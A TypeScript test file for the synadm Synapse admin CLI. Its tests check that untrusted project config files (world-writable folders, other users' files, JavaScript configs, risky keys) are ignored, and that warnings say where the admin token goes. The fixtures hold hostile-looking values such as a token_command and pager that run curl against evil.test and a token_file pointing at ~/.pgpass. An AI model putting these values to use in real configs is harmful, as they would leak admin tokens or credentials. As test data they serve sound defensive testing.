// Which config files synadm believes (issue 21; README: Security, Config files and folders). A project config that
// another user could have written or swapped is not read; code configs run only from a trusted folder; what a
// project config may set outside one is limited, and what decides where the token goes is said on stderr. Owner
// cases chown to another uid, so they need root (as CI runs); mode cases run anywhere.
import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { loadSettings } from '../../core/config/settings.js'
import { pluginList } from '../../core/plugin-host/plugin-list.js'
import { EXIT } from '../../core/kernel/errors.js'
import { main } from '../../core/app/start.js'
import { testIO } from '../../core/app/in-process.js'
import server from '../../plugins/server/index.js'

const isRoot = process.getuid?.() === 0
const OTHER_UID = 4242

/** A Synapse stand-in on loopback that records what reaches it. */
async function standIn() {
  const requests: { path: string; authorization?: string }[] = []
  const http = createServer((req, res) => {
    requests.push({ path: req.url ?? '', authorization: req.headers.authorization })
    res.setHeader('content-type', 'application/json')
    res.end(JSON.stringify({ server_version: '1.160.0' }))
  })
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve))
  const url = `http://127.0.0.1:${(http.address() as AddressInfo).port}`
  return { url, requests, close: () => new Promise<void>((resolve) => http.close(() => resolve())) }
}

let root: string
let configHome: string
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'synadm-trust-'))
  configHome = join(root, 'config-home')
})

/** A folder (made with the given mode, whatever the umask) and a file in it. */
function folder(path: string, mode = 0o755): string {
  mkdirSync(path, { recursive: true })
  chmodSync(path, mode)
  return path
}
function file(path: string, text: string, mode = 0o644): string {
  writeFileSync(path, text)
  chmodSync(path, mode)
  return path
}
const trust = (...folders: string[]) => file(join(folder(join(configHome, 'synadm')), 'trusted.yaml'), `folders:\n${folders.map((f) => `  - ${f}\n`).join('')}`)
// with the plugin list, as the session hands it in
const load = (cwd: string, env: Record<string, string> = {}) => loadSettings({ configFile: join(root, 'no-user-file.yaml'), env: { XDG_CONFIG_HOME: configHome, ...env }, cwd, pluginList })

describe('the issue: a .synadmrc in a world-writable folder above the working directory', () => {
  const servers: Awaited<ReturnType<typeof standIn>>[] = []
  afterEach(async () => {
    await Promise.all(servers.map((s) => s.close()))
    servers.length = 0
  })

  it('does not take over: the token never reaches its server, one line says why', async () => {
    const attacker = await standIn()
    const synapse = await standIn()
    servers.push(attacker, synapse)
    // mkdir -m1777 /tmp/s; echo 'base_url: http://127.0.0.1:PORT' >/tmp/s/.synadmrc; mkdir -p /tmp/s/a/b; cd /tmp/s/a/b
    const s = folder(join(root, 's'), 0o1777)
    file(join(s, '.synadmrc'), `base_url: ${attacker.url}\n`)
    const cwd = folder(join(s, 'a', 'b'))
    const userFile = file(join(root, 'synadm.yaml'), `user: '@admin:synadm.test'\ntoken: admin-secret-token\nbase_url: ${synapse.url}\n`, 0o600)
    const io = { ...testIO({ env: { SYNADM_CONFIG: userFile, XDG_CONFIG_HOME: configHome, SYNADM_BASE_URL: undefined, SYNADM_TOKEN: undefined } }), cwd }

    const code = await main(['version'], [server], io)

    expect(attacker.requests).toEqual([])
    expect(synapse.requests).toEqual([{ path: '/_synapse/admin/v1/server_version', authorization: 'Bearer admin-secret-token' }])
    expect({ code, stderr: io.stderr.text }).toEqual({ code: 0, stderr: `synadm: warning: ignoring ${s}/.synadmrc: the folder ${s} is writable by other users (mode 1777)\n` })
  })

  it('a project config that sets base_url is said on stderr once per run, with where the token goes', async () => {
    const synapse = await standIn()
    servers.push(synapse)
    const project = folder(join(root, 'project'))
    file(join(project, '.synadmrc'), `base_url: ${synapse.url}\nformat: json\n`)
    const userFile = file(join(root, 'synadm.yaml'), `user: '@admin:synadm.test'\ntoken: admin-secret-token\n`, 0o600)
    const env = { SYNADM_CONFIG: userFile, XDG_CONFIG_HOME: configHome, SYNADM_BASE_URL: undefined, SYNADM_TOKEN: undefined }
    const io = { ...testIO({ env, input: 'version\nversion\n' }), cwd: project }

    expect(await main(['shell'], [server], io)).toBe(0)
    expect(synapse.requests).toHaveLength(2)
    expect(io.stderr.text).toBe(`synadm: warning: the project config ${project}/.synadmrc sets base_url: the token goes to ${synapse.url}\n`)

    // SYNADM_BASE_URL decides instead: nothing to say
    const quiet = { ...testIO({ env: { ...env, SYNADM_BASE_URL: synapse.url } }), cwd: project }
    expect(await main(['version'], [server], quiet)).toBe(0)
    expect(quiet.stderr.text).toBe('')
  })
})

describe('a project config is not read when someone else could have written it', () => {
  it('in a folder writable by others without the sticky bit, above the working directory', async () => {
    const shared = folder(join(root, 'shared'), 0o777)
    const project = folder(join(shared, 'project'))
    file(join(project, '.synadmrc'), 'timeout: 5\n')
    const { settings, warnings } = await load(project)
    expect(settings.timeout).toBe(30)
    expect(warnings).toEqual([`ignoring ${project}/.synadmrc: the folder ${shared} is writable by other users (mode 0777)`])
  })

  it('above it, a sticky world-writable folder (like /tmp) is fine: your own folder in it is yours', async () => {
    const sticky = folder(join(root, 'tmp'), 0o1777)
    const project = folder(join(sticky, 'project'))
    file(join(project, '.synadmrc'), 'timeout: 5\n')
    const { settings, sources, warnings } = await load(folder(join(project, 'sub')))
    expect({ timeout: settings.timeout, source: sources.timeout, warnings }).toEqual({ timeout: 5, source: 'project', warnings: [] })
  })

  it('a folder the search passed on the way that others can write, even with the sticky bit', async () => {
    const project = folder(join(root, 'project'))
    file(join(project, '.synadmrc'), 'timeout: 5\n')
    const drop = folder(join(project, 'drop'), 0o1777)
    const { settings, warnings } = await load(folder(join(drop, 'mine')))
    expect(settings.timeout).toBe(30)
    expect(warnings).toEqual([`ignoring ${project}/.synadmrc: the folder ${drop} is writable by other users (mode 1777)`])
  })

  it('a file others can write', async () => {
    const project = folder(join(root, 'project'))
    file(join(project, '.synadmrc.json'), '{"timeout": 5}', 0o646)
    const { settings, warnings } = await load(project)
    expect(settings.timeout).toBe(30)
    expect(warnings).toEqual([`ignoring ${project}/.synadmrc.json: it is writable by other users (mode 0646)`])
  })

  it.runIf(isRoot)('a file of another user in a sticky world-writable folder like /tmp', async () => {
    const tmp = folder(join(root, 'tmp'), 0o1777)
    chownSync(file(join(tmp, '.synadmrc'), 'timeout: 5\n'), OTHER_UID, OTHER_UID)
    const { settings, warnings } = await load(tmp)
    expect(settings.timeout).toBe(30)
    expect(warnings).toEqual([`ignoring ${tmp}/.synadmrc: it belongs to another user (uid ${OTHER_UID})`])
  })

  it.runIf(isRoot)("a folder of another user on the way, or a group's writable file", async () => {
    const theirs = folder(join(root, 'theirs'))
    chownSync(theirs, OTHER_UID, OTHER_UID)
    const project = folder(join(theirs, 'project'))
    file(join(project, 'package.json'), JSON.stringify({ synadm: { timeout: 5 } }))
    expect((await load(project)).warnings).toEqual([`ignoring ${project}/package.json: the folder ${theirs} belongs to another user (uid ${OTHER_UID})`])

    const mine = folder(join(root, 'mine'))
    const rc = file(join(mine, '.synadmrc'), 'timeout: 5\n', 0o664)
    chownSync(rc, 0, OTHER_UID)
    expect((await load(mine)).warnings).toEqual([`ignoring ${rc}: it is writable by its group (gid ${OTHER_UID}, mode 0664)`])
    // root's own group (named root, no other members) is a user private group: group-writable is still only root
    chownSync(rc, 0, 0)
    expect(await load(mine)).toMatchObject({ settings: { timeout: 5 }, warnings: [] })
  })

  it('a folder you trust (trusted.yaml) is read as it is, as git reads a safe.directory', async () => {
    const shared = folder(join(root, 'shared'), 0o777)
    file(join(shared, '.synadmrc'), 'timeout: 5\n', 0o666)
    trust(shared)
    expect(await load(shared)).toMatchObject({ settings: { timeout: 5 }, warnings: [] })
  })
})

describe('code in a project config', () => {
  const sideEffect = () => join(root, 'code-ran')
  const codeConfig = (dir: string, name = '.synadmrc.cjs') => file(join(dir, name), `require('node:fs').writeFileSync(${JSON.stringify(sideEffect())}, 'ran'); module.exports = { timeout: 7 }\n`)

  it('does not run outside a trusted folder: one line says why', async () => {
    const project = folder(join(root, 'project'))
    codeConfig(project)
    const { settings, warnings } = await load(project)
    expect(existsSync(sideEffect())).toBe(false)
    expect(settings.timeout).toBe(30)
    expect(warnings).toEqual([`ignoring ${project}/.synadmrc.cjs: a JavaScript config runs only from a trusted folder (if you trust the folder, list it under folders: in ${configHome}/synadm/trusted.yaml)`])
  })

  it('runs in a folder listed in trusted.yaml, and in your own config folder', async () => {
    const project = folder(join(root, 'project'))
    codeConfig(project, 'synadm.config.cjs')
    trust(project)
    expect(await load(project)).toMatchObject({ settings: { timeout: 7 }, warnings: [] })
    expect(existsSync(sideEffect())).toBe(true)

    const ownConfig = folder(join(root, 'xdg', 'synadm'))
    codeConfig(ownConfig)
    expect((await load(ownConfig, { XDG_CONFIG_HOME: join(root, 'xdg') })).settings.timeout).toBe(7)
  })

  it("is not reached through cosmiconfig's $import", async () => {
    const project = folder(join(root, 'project'))
    const evil = codeConfig(folder(join(root, 'elsewhere')))
    file(join(project, '.synadmrc'), `$import: ${evil}\ntimeout: 5\n`)
    expect((await load(project)).settings.timeout).toBe(5)
    expect(existsSync(sideEffect())).toBe(false)
  })
})

describe('what a project config may set outside a trusted folder', () => {
  it.each([
    ['token_command', 'token_command: curl http://evil.test/t\n'],
    ['token_file', 'token_file: ~/.pgpass\n'],
    ['plugins', 'plugins:\n  - ./evil.mjs\n'],
    ['pager', "pager: sh -c 'curl evil.test'\n"],
    ['audit_log', 'audit_log: off\n'],
    ['ssl_verify', 'ssl_verify: false\n'],
  ])('%s: the file is not read at all', async (key, text) => {
    const project = folder(join(root, 'project'))
    file(join(project, '.synadmrc'), `base_url: http://evil.test\n${text}`)
    const { settings, warnings } = await load(project)
    expect(settings.base_url).toBe('http://localhost:8008')
    expect(warnings).toEqual([`ignoring ${project}/.synadmrc: a project config sets ${key} only in a trusted folder (if you trust the folder, list it under folders: in ${configHome}/synadm/trusted.yaml)`])
  })

  it('in a trusted folder it may, and what concerns the token is said', async () => {
    const project = folder(join(root, 'project'))
    file(join(project, '.synadmrc'), 'base_url: http://staging.test\ntoken_command: pass show staging\naudit_log: off\nformat: json\n')
    trust(project)
    const { settings, warnings } = await load(project)
    expect(settings).toMatchObject({ base_url: 'http://staging.test', token_command: 'pass show staging', audit_log: 'off' })
    expect(warnings).toEqual([`the project config ${project}/.synadmrc sets base_url, token_command, audit_log: the token goes to http://staging.test`])
  })
})

describe('where the search looks', () => {
  it("not at cosmiconfig's meta config (.config/config.json in the working directory)", async () => {
    const project = folder(join(root, 'project'))
    file(join(project, '.synadmrc'), 'timeout: 5\n')
    folder(join(project, '.config'))
    file(join(project, '.config', 'config.json'), JSON.stringify({ cosmiconfig: {}, synadm: { base_url: 'http://evil.test' } }))
    // cosmiconfig took it from the process's working directory
    const before = process.cwd()
    process.chdir(project)
    const { settings } = await load(project).finally(() => process.chdir(before))
    expect({ timeout: settings.timeout, base_url: settings.base_url }).toEqual({ timeout: 5, base_url: 'http://localhost:8008' })
  })


  it('at your home folder when the working directory is inside it', async () => {
    file(join(root, '.synadmrc'), 'timeout: 5\n')
    const home = folder(join(root, 'home'))
    const cwd = folder(join(home, 'project'))
    expect(await load(cwd, { HOME: home })).toMatchObject({ settings: { timeout: 30 }, warnings: [] })
    expect((await load(cwd, { HOME: join(root, 'elsewhere') })).settings.timeout).toBe(5)
  })
})

describe('your own config files', () => {
  it('a user file others can write is refused (exit 3), as ssh refuses such a config; 0644 is fine', async () => {
    const userFile = file(join(root, 'synadm.yaml'), "user: '@admin:synadm.test'\nbase_url: http://synapse.test\n", 0o666)
    const io = { ...testIO({ env: { SYNADM_CONFIG: userFile, XDG_CONFIG_HOME: configHome, SYNADM_BASE_URL: undefined } }), cwd: root }
    expect(await main(['version'], [server], io)).toBe(EXIT.config)
    expect(io.stderr.text).toBe(`synadm: ${userFile} is writable by other users (mode 0666): synadm reads no config file that someone else can change\nhint: chmod go-w ${userFile}\n`)
    chmodSync(userFile, 0o644)
    expect(await loadSettings({ configFile: userFile, env: {}, project: false })).toMatchObject({ settings: { base_url: 'http://synapse.test' }, warnings: [] })
  })

  it('so are a plugin list and a trusted list others can write', async () => {
    const plugins = file(join(folder(join(configHome, 'synadm')), 'plugins.yaml'), 'plugins:\n  - ./evil.mjs\n', 0o666)
    await expect(load(root)).rejects.toMatchObject({ kind: 'config', message: `${plugins} is writable by other users (mode 0666): synadm reads no config file that someone else can change` })
    chmodSync(plugins, 0o644)
    const project = folder(join(root, 'project'))
    file(join(project, '.synadmrc'), 'timeout: 5\n')
    chmodSync(trust(project), 0o622)
    await expect(load(project)).rejects.toMatchObject({ kind: 'config', message: expect.stringContaining('trusted.yaml is writable by other users (mode 0622)') })
  })

  it.runIf(isRoot)('a profile of another user is refused', async () => {
    const profile = file(join(root, 'theirs.yaml'), 'base_url: http://synapse.test\n')
    chownSync(profile, OTHER_UID, OTHER_UID)
    await expect(loadSettings({ configFile: profile, env: {}, project: false })).rejects.toMatchObject({
      kind: 'config',
      message: `${profile} belongs to another user (uid ${OTHER_UID}): synadm reads no config file that someone else can change`,
      hint: `use a copy of your own: cp ${profile} FILE`,
    })
  })
})
